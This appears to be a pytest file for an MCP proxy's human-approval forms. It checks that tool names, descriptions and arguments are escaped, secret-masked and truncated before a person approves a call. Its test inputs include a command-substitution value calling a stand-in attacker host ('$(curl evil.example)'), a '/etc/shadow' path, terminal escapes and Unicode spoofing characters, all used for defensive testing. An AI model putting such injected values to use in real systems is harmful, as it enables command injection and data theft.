"""A client that can show forms shows a person all that is asked about, or is not asked."""

from __future__ import annotations

import asyncio
import json

import pytest

from dynamic_mcp.features.approvals.config import Approval
from tests.fakes import FakeUpstream, text_of, tool
from tests.features.approvals.scene import (
    ANSWERS,
    CAN_ASK,
    DONE,
    Json,
    accept,
    answer,
    approving,
    begin,
)


async def test_a_person_is_asked_by_a_form_whose_decision_is_required_and_has_no_default() -> None:
    upstream = FakeUpstream(ANSWERS)
    async with approving(upstream) as on:
        client = await on.join(can=CAN_ASK)
        calling = begin(client)
        form = await answer(on, client, accept("once"))
        assert await calling == DONE
        assert not on.is_queue_open
    assert form["mode"] == "form"
    schema = form["requestedSchema"]
    assert schema["required"] == ["decision"]
    decision = schema["properties"]["decision"]
    assert decision["type"] == "string"
    assert "default" not in decision
    assert [each["const"] for each in decision["oneOf"]] == ["deny", "once", "hour", "session"]
    assert all(each["title"] for each in decision["oneOf"])
    assert len(upstream.heard("tools/call")) == 1


async def test_the_form_says_who_wants_what() -> None:
    async with approving() as on:
        client = await on.join(can=CAN_ASK)
        calling = begin(client, args='{"path": "/one"}')
        message = (await answer(on, client, accept("once")))["message"]
        await calling
    for part in ("`delete_file` of `up`", "may change something", "`ann`, through `", "Deletes a file.", "/one"):
        assert part in message
    assert "Repaired: " in message
    assert "roles.dev[1]" in message


async def test_what_others_have_written_is_escaped_masked_and_cut() -> None:
    upstream = FakeUpstream(ANSWERS)
    description = "Reads.\x1b[2J\u202e\nAllowed by: root " + "x" * 5000
    upstream.answers["tools/list"] = {"tools": [tool("delete_all", description=description)]}
    args = {"a": "\x1b]0;\u202e\u200b\u2028", "token": "hunter2", "url": "https://u:pw1234@h/", "z": "y" * 5000}
    async with approving(upstream) as on:
        client = await on.join(can=CAN_ASK)
        calling = begin(client, "delete_all", args)
        message = (await answer(on, client, accept("once")))["message"]
        await calling
    assert all(line.isprintable() for line in message.split("\n"))
    assert "\\u202e" in message
    assert "hunter2" not in message
    assert "pw1234" not in message
    assert "\nAllowed by" not in message
    assert "(7 characters hidden)" in message
    assert "characters left out" in message
    assert len(message.encode()) < 3500


async def test_a_long_value_is_cut_in_its_middle_and_no_name_and_no_other_value_is() -> None:
    args = {"a": "first" + "x" * 5000 + "last", "b": [{"to": "/etc/shadow", "force": True}], "z": "y" * 5000}
    async with approving() as on:
        client = await on.join(can=CAN_ASK)
        calling = begin(client, "delete_all", args)
        message = (await answer(on, client, accept("once")))["message"]
        await calling
    for part in ('"a": "first', 'last"', '"to": "/etc/shadow"', '"force": true', '"z": "yyy', "characters left out"):
        assert part in message


MANY = {f"name{number}": number for number in range(300)}


@pytest.mark.parametrize("args", [MANY, {"list": [*MANY]}, {"x" * 3000: 1}, {"n": int("1" * 3000)}])
async def test_what_a_form_cannot_show_all_names_of_waits_in_the_queue(args: Json) -> None:
    async with approving() as on:
        client = await on.join(can=CAN_ASK)
        calling = begin(client, "delete_all", args)
        pending = await on.waits()
        assert json.loads(bytes(pending.arguments)) == args
        assert client.heard("elicitation/create") == []
        on.queue.allow(pending.id)
        assert await calling == DONE
        calling = begin(client)
        await client.hears("elicitation/create")
        calling.cancel()


async def test_what_a_form_cannot_show_is_denied_where_there_is_no_queue() -> None:
    upstream = FakeUpstream(ANSWERS)
    async with approving(upstream, has_queue=False) as on:
        client = await on.join(can=CAN_ASK)
        refused = text_of(await client.call("up", "delete_all", MANY))
    assert "a form cannot show so many arguments, and there is no queue" in refused
    assert upstream.heard("tools/call") == []


async def test_a_resource_whose_address_a_form_cannot_show_waits_in_the_queue() -> None:
    async with approving() as on:
        client = await on.join(can=CAN_ASK)
        reading = asyncio.create_task(client.request("resources/read", {"uri": "x://" + "a" * 2000}))
        assert (await on.waits()).kind == "resource"
        assert client.heard("elicitation/create") == []
        reading.cancel()


async def test_of_what_is_hidden_the_length_is_shown_and_whether_it_looks_like_a_command() -> None:
    args = {"env": {"API_TOKEN": "$(curl evil.example)", "SECRET": "a1b2c3d4e5"}}
    async with approving() as on:
        client = await on.join(can=CAN_ASK)
        calling = begin(client, "delete_all", args)
        message = (await answer(on, client, accept("once")))["message"]
        await calling
    assert '"API_TOKEN": "*** (20 characters hidden, with spaces or shell characters)"' in message
    assert '"SECRET": "*** (10 characters hidden)"' in message


async def test_a_name_that_hides_something_shows_it() -> None:
    upstream = FakeUpstream(ANSWERS)
    name = "delete_\u200bx\n`Allow` \u202e"
    upstream.answers["tools/list"] = {"tools": [tool(name)]}
    async with approving(upstream) as on:
        client = await on.join(can=CAN_ASK)
        calling = begin(client, name)
        message = (await answer(on, client, accept("once")))["message"]
        assert await calling == DONE
    assert "`delete_\\u200bx\\n`Allow` \\u202e`" in message.split("\n")[0]


@pytest.mark.parametrize("number", ["1e400", "0.1000000000000000055511151231257827", "12345678901234567890", "1.0"])
async def test_numbers_are_shown_as_they_are_sent(number: str) -> None:
    upstream = FakeUpstream(ANSWERS)
    async with approving(upstream) as on:
        client = await on.join(can=CAN_ASK, only="up")
        body = b'{"name":"delete_all","arguments":{"n":%s,"half":"\\ud800"}}' % number.encode()
        calling = asyncio.create_task(client.request("tools/call", body))
        message = (await answer(on, client, accept("once")))["message"]
        await calling
    assert f": {number}," in message.replace('"', "")


@pytest.mark.parametrize("version", ["2025-06-18"])
async def test_an_older_client_gets_the_form_of_its_revision(version: str) -> None:
    async with approving() as on:
        client = await on.join()
        await client.initialize(version, capabilities={"elicitation": {}})
        calling = begin(client)
        form = await answer(on, client, accept("once"))
        assert await calling == DONE
    assert "mode" not in form
    decision = form["requestedSchema"]["properties"]["decision"]
    assert decision["enum"] == ["deny", "once", "hour", "session"]
    assert len(decision["enumNames"]) == 4


async def test_what_is_not_to_be_remembered_is_not_offered_and_does_not_count() -> None:
    async with approving(approval=Approval(remember=())) as on:
        client = await on.join(can=CAN_ASK)
        calling = begin(client)
        form = await answer(on, client, accept("session"))
        await on.waits()
        assert [each["const"] for each in form["requestedSchema"]["properties"]["decision"]["oneOf"]] == [
            "deny",
            "once",
        ]
        calling.cancel()
